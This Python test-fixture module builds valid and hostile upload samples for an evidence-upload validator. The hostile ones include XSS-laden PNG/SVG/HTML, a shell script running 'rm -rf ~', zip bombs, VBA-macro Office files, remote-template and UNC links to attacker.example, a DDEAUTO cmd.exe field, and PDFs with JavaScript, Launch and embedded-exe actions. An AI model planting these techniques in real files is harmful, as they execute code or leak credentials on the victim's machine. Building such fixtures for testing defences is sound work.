"""Real files made in the tests, byte by byte: every accepted type and every trick an upload might try.

Each builder returns bytes. test_evidence_uploads.py checks that libmagic names the good ones as expected,
so the tests cannot pass on files that only look right to us.
"""

import io
import random
import struct
import zipfile
import zlib

from evidence.documents import simple_pdf


def pdf():
    return simple_pdf(["Attendance list: 212 staff attended six workshops."], title="Workshop attendance")


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width=4, height=3):
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(raw))
        + _png_chunk(b"IEND", b"")
    )


def png_header_then_html():
    return b"\x89PNG\r\n\x1a\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def png_with_html_after_the_end():
    return png() + b"<html><script>alert(1)</script></html>"


def jpeg():
    """A baseline 8x8 grey JPEG: one block, DC and AC both coded with one-symbol Huffman tables."""
    soi = b"\xff\xd8"
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    sof0 = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 8, 8, 1) + b"\x01\x11\x00"
    one_code = bytes([1] + [0] * 15)  # one code of length 1 ...
    dht_dc = b"\xff\xc4" + struct.pack(">H", 2 + 1 + 16 + 1) + b"\x00" + one_code + b"\x00"  # ... for DC size 0
    dht_ac = b"\xff\xc4" + struct.pack(">H", 2 + 1 + 16 + 1) + b"\x10" + one_code + b"\x00"  # ... for AC end of block
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00" + b"\x00\x3f\x00"
    scan = b"\x3f"  # bits 0 (DC 0), 0 (EOB), padded with ones
    eoi = b"\xff\xd9"
    return soi + app0 + dqt + sof0 + dht_dc + dht_ac + sos + scan + eoi


def gif():
    return (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
        b"!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )


def svg():
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script>'
        b'<rect width="10" height="10"/></svg>\n'
    )


def html():
    return b"<!DOCTYPE html>\n<html><head><title>Evidence</title></head><body><script>alert(1)</script></body></html>\n"


def shell_script():
    return b"#!/bin/sh\nrm -rf ~\n"


def elf():
    """The header of a 64-bit Linux executable, padded: what a compiled program starts with."""
    header = (
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
        + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    )
    program_header = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 184, 184, 0x1000)
    return header + program_header + b"\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05" + b"\x00" * 54


def text():
    return "Minutes of the sub-committee, 3 March: the protocol was agreed by all partners.\n".encode()


def csv():
    return (
        "agency,staff,attended,percent\n"
        "Police,120,115,96\n"
        "Health,300,281,94\n"
        "Social care,90,88,98\n"
    ).encode()


# --- Office and OpenDocument files, built as zip archives the way the applications write them ---------------

_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="{target}"/></Relationships>'
)


def _content_types(overrides):
    parts = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{parts}</Types>"
    )


def _zip(members, *, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Revised procedure on household composition, approved by the Board.</w:t></w:r></w:p>"
    "</w:body></w:document>"
)


def docx(extra_members=(), *, body=None, compression=zipfile.ZIP_DEFLATED):
    """A Word document; ``body`` replaces the paragraphs of its w:body (WordprocessingML)."""
    document = DOCUMENT_XML if body is None else DOCUMENT_XML.replace(
        DOCUMENT_XML[DOCUMENT_XML.index("<w:body>") + 8 : DOCUMENT_XML.index("</w:body>")], body
    )
    return _zip(
        [
            ("[Content_Types].xml", _content_types([("/word/document.xml", WORD_MAIN)])),
            ("_rels/.rels", _RELS.format(target="word/document.xml")),
            ("word/document.xml", document),
            *extra_members,
        ],
        compression=compression,
    )


def docm():
    """A macro-enabled Word document: the macro content type and a vbaProject.bin part."""
    return _zip(
        [
            (
                "[Content_Types].xml",
                _content_types(
                    [("/word/document.xml", WORD_MACRO_MAIN), ("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")]
                ),
            ),
            ("_rels/.rels", _RELS.format(target="word/document.xml")),
            ("word/document.xml", DOCUMENT_XML),
            ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504),
        ]
    )


def docx_with_macro_part():
    """An ordinary-looking .docx that still carries a VBA project."""
    return docx(extra_members=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)])


def zip_bomb_docx(inflated_mb=120):
    """A .docx whose one picture inflates from about a hundred kilobytes to ``inflated_mb`` megabytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types([("/word/document.xml", WORD_MAIN)]))
        archive.writestr("_rels/.rels", _RELS.format(target="word/document.xml"))
        archive.writestr("word/document.xml", DOCUMENT_XML)
        with archive.open("word/media/image1.png", "w", force_zip64=True) as member:
            block = b"\x00" * (1024 * 1024)
            for _ in range(inflated_mb):
                member.write(block)
    return buffer.getvalue()


def docx_with_many_members(count):
    return docx(extra_members=[(f"word/media/part{i}.xml", "<x/>") for i in range(count)])


SHEET_DATA = '<row r="1"><c r="A1" t="inlineStr"><is><t>Files audited</t></is></c><c r="B1"><v>30</v></c></row>'


def xlsx(extra_members=(), *, sheet_data=SHEET_DATA, main=XLSX_MAIN):
    """An Excel workbook of one sheet; ``sheet_data`` is the sheet's rows (SpreadsheetML)."""
    return _zip(
        [
            (
                "[Content_Types].xml",
                _content_types(
                    [
                        ("/xl/workbook.xml", main),
                        ("/xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
                    ]
                ),
            ),
            ("_rels/.rels", _RELS.format(target="xl/workbook.xml")),
            (
                "xl/workbook.xml",
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                '<sheets><sheet name="Audit" sheetId="1" r:id="rId1"/></sheets></workbook>',
            ),
            (
                "xl/_rels/workbook.xml.rels",
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                'Target="worksheets/sheet1.xml"/></Relationships>',
            ),
            (
                "xl/worksheets/sheet1.xml",
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                f"{sheet_data}</sheetData></worksheet>",
            ),
            *extra_members,
        ]
    )


ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"


def odf_content(text="<text:p>Supervision records, quarter 3.</text:p>"):
    """An OpenDocument content.xml whose office:text holds ``text``."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
        f"<office:body><office:text>{text}</office:text></office:body></office:document-content>"
    )


def odt(extra_members=(), *, text="<text:p>Supervision records, quarter 3.</text:p>"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        # OpenDocument: "mimetype" first and stored uncompressed, so that its type can be read at a fixed offset.
        archive.writestr(zipfile.ZipInfo("mimetype"), ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?>\n'
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODT_MIMETYPE}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
        )
        archive.writestr("content.xml", odf_content(text))
        for name, data in extra_members:
            archive.writestr(name, data)
    return buffer.getvalue()


def odt_with_macro():
    return odt(extra_members=[("Basic/Standard/Module1.xml", "<script:module/>")])


def plain_zip():
    return _zip([("minutes.txt", "Minutes."), ("attendance.csv", "a,b\n1,2\n")])


# --- Office files carrying active content (issue 11): each what an attacker would send -----------------------

VBA_PROJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # the start of an OLE compound file
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relationships(*relationships):
    """A .rels part: (type, target, external) for each relationship."""
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for i, (kind, target, external) in enumerate(relationships, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'
    )


def xlsm():
    """A macro-enabled workbook, as Excel writes one: the macro content type and a VBA project."""
    return xlsx([("xl/vbaProject.bin", VBA_PROJECT)], main=XLSM_MAIN)


def xlsx_that_libmagic_calls_zip():
    """A workbook whose declared parts come after a hundred others: libmagic then only says "zip", and the
    package's own declaration ([Content_Types].xml) decides what it is."""
    workbook = zipfile.ZipFile(io.BytesIO(xlsx()))
    padding = [(f"customXml/item{i}.xml", "<x/>") for i in range(100)]
    return _zip(padding + [(info.filename, workbook.read(info)) for info in workbook.infolist()])


def docx_embedding(member, data):
    """A Word document with ``data`` embedded as word/embeddings/``member``, as Word embeds a workbook."""
    return docx([(f"word/embeddings/{member}", data)])


def docx_with_remote_template(target="http://attacker.example/template.dotm"):
    """Template injection: word/settings.xml points its attached template at another computer."""
    return docx(
        [
            ("word/settings.xml", '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
             '<w:attachedTemplate r:id="rId1"/></w:settings>'),
            ("word/_rels/settings.xml.rels", relationships(("attachedTemplate", target, True))),
        ]
    )


def docx_with_hyperlink(target):
    body = (
        '<w:p><w:hyperlink r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        "<w:r><w:t>Working Together 2023</w:t></w:r></w:hyperlink></w:p>"
    )
    return docx([("word/_rels/document.xml.rels", relationships(("hyperlink", target, True)))], body=body)


def xlsx_with_external_workbook(target=r"file:///\\attacker.example\share\budget.xlsx"):
    """A link to another workbook on a network share, as Excel writes one (xl/externalLinks/)."""
    return xlsx(
        [
            ("xl/externalLinks/externalLink1.xml",
             '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
             '<externalBook r:id="rId1"/></externalLink>'),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", relationships(("externalLinkPath", target, True))),
        ]
    )


def docx_with_field(code, *, split_at=None):
    """A Word field with ``code`` as its command, written over two runs when ``split_at`` is given."""
    parts = [code] if split_at is None else [code[:split_at], code[split_at:]]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in parts)
    return docx(
        body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


DDE_FIELD = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'


def odt_with(text="", extra_members=()):
    return odt(extra_members, text=f"<text:p>Supervision records, quarter 3.</text:p>{text}")


def zip_of_zeros(megabytes):
    """A plain zip of one file of zeros: a few hundred kilobytes that inflate to ``megabytes``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as member:
            for _ in range(megabytes):
                member.write(b"\x00" * (1024 * 1024))
    return buffer.getvalue()


def nested_docx(depth, innermost=None):
    """Word documents embedded in each other ``depth`` times, around ``innermost`` (by default a plain one)."""
    data = docx() if innermost is None else innermost
    for _ in range(depth):
        data = docx_embedding("Microsoft_Word_Document.docx", data)
    return data


# --- PDFs carrying active content, written object by object ------------------------------------------------


def raw_pdf(objects, *, root=1):
    """A PDF of the numbered ``objects`` (the bytes between "obj" and "endobj") with a classic xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


_PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
}


def pdf_with_catalog(entries, *, page=b"", extra=None):
    """A one-page PDF whose catalog has ``entries`` (and its page ``page``) besides /Type and /Pages."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R " + entries + b" >>", **_PAGES, **(extra or {})}
    objects[3] = objects[3][:-2] + page + b" >>"
    return raw_pdf(objects)


def pdf_with_open_action_javascript():
    return pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>")


def pdf_with_javascript_in_an_object_stream(padding=0):
    """The JavaScript action lives, compressed, in an object stream, behind an escaped name, on the page's /AA;
    ``padding`` random bytes after it make the stream that large."""
    action = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    header = b"4 0 "
    stream = zlib.compress(header + action + b"\n" + random.Random(padding).randbytes(padding))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: _PAGES[2],
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>",
        5: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(stream))
        + stream + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    offsets[6] = len(out)
    rows = b"\x00" + struct.pack(">IH", 0, 65535)
    for number in range(1, 7):
        if number == 4:
            rows += b"\x02" + struct.pack(">IH", 5, 0)  # object 4 is the first in object stream 5
        else:
            rows += b"\x01" + struct.pack(">IH", offsets[number], 0)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
        + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    )
    return bytes(out)


def pdf_with_launch_action():
    return pdf_with_catalog(b"/OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")


def pdf_with_attachment():
    return pdf_with_catalog(
        b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>",
        extra={
            4: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
            5: b"<< /Length 2 >>\nstream\nMZ\nendstream",
        },
    )


def pdf_with_rich_media():
    return pdf_with_catalog(
        b"", page=b" /Annots [4 0 R]", extra={4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"}
    )


def pdf_with_xfa_form():
    return pdf_with_catalog(
        b"/AcroForm << /Fields [] /XFA 4 0 R >>", extra={4: b"<< /Length 7 >>\nstream\n<xdp:/>\nendstream"}
    )


def pdf_with_web_link():
    """An ordinary link to a web page: nothing runs, so it is accepted."""
    return pdf_with_catalog(
        b"",
        page=b" /Annots [4 0 R]",
        extra={4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.gov.uk/) >> >>"},
    )


def pdf_encrypted(password="secret"):
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- helpers for the evidence tests -------------------------------------------------------------------------


def upload(name, data, content_type="application/octet-stream"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type=content_type)


def submit(action, user, name="attendance.pdf", data=None, **kwargs):
    """Submit one evidence file through the real checks and storage; returns the Evidence item."""
    import datetime

    from evidence import services, uploads

    checked = uploads.check_upload(upload(name, pdf() if data is None else data))
    values = {"description": "Attendance lists of the workshops.", "represents_on": datetime.date(2026, 1, 15)}
    values.update(kwargs)
    return services.evidence_submit(action=action, actor=user, uploads=[checked], **values)[0]


def submit_note(action, user, note="The protocol was signed by all partners on 3 March.", **kwargs):
    import datetime

    from evidence import services

    values = {"description": "Sign-off of the protocol.", "represents_on": datetime.date(2026, 3, 3)}
    values.update(kwargs)
    return services.evidence_submit(action=action, actor=user, note=note, **values)[0]
